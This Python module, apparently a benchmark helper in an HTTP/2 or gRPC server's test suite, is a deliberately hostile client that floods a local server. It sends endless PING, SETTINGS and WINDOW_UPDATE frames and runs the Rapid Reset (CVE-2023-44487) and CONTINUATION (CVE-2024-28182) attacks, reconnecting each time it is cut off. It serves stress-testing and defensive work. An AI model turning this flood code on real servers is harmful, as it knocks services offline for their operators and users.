"""A client that means no good: one kind of flood over one connection after another, as fast as it can, until it is ended.

python -m benchmarks.servers.abuser PORT FLOOD       FLOOD: any of FLOODS
"""

from __future__ import annotations

import os
import socket
import struct
import sys
from collections.abc import Callable

from tests.support.http2 import (
    CANCEL,
    CONTINUATION,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SCORE,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    frame,
    headers_block,
    headers_frames,
)

FRAMES_PER_WRITE = 500
HEALTH_CHECK = "/grpc.health.v1.Health/Check"


def rapid_reset(path: str, stream: int) -> bytes:
    """CVE-2023-44487: calls that are reset at once."""
    frames = b""
    for number in range(stream, stream + FRAMES_PER_WRITE, 2):
        frames += headers_frames(call_headers(path), stream=number) + frame(RST_STREAM, struct.pack(">I", CANCEL), 0, number)
    return frames


def continuation(stream: int) -> bytes:
    """CVE-2024-28182: a header block that never ends."""
    start = frame(HEADERS, headers_block(call_headers()), 0, 1) if stream == 1 else b""
    return start + frame(CONTINUATION, b"\0\x01a\x7f\x01" + b"b" * 128, 0, 1) * FRAMES_PER_WRITE


# What to send next; the argument is the first stream id that was not used.
FLOODS: dict[str, Callable[[int], bytes]] = {
    "ping": lambda _: frame(PING, b"12345678") * FRAMES_PER_WRITE,
    "settings": lambda _: frame(SETTINGS, b"") * FRAMES_PER_WRITE,
    "window-update": lambda _: frame(WINDOW_UPDATE, struct.pack(">I", 1)) * FRAMES_PER_WRITE,
    "reset-score": lambda stream: rapid_reset(SCORE, stream),
    "reset-forwarded": lambda stream: rapid_reset(HEALTH_CHECK, stream),
    "continuation": continuation,
}


def main() -> None:
    port, flood = int(sys.argv[1]), FLOODS[sys.argv[2]]
    os.nice(19)  # its own work is an attacker's machine's: it takes of this one what is left
    print("ready", flush=True)
    while True:
        with socket.create_connection(("127.0.0.1", port)) as connection:
            connection.settimeout(5.0)
            stream = 1
            try:
                connection.sendall(PREFACE + frame(SETTINGS, b""))
                while True:
                    connection.sendall(flood(stream))
                    stream += FRAMES_PER_WRITE
            except OSError:
                continue  # sent away: once more


if __name__ == "__main__":
    main()
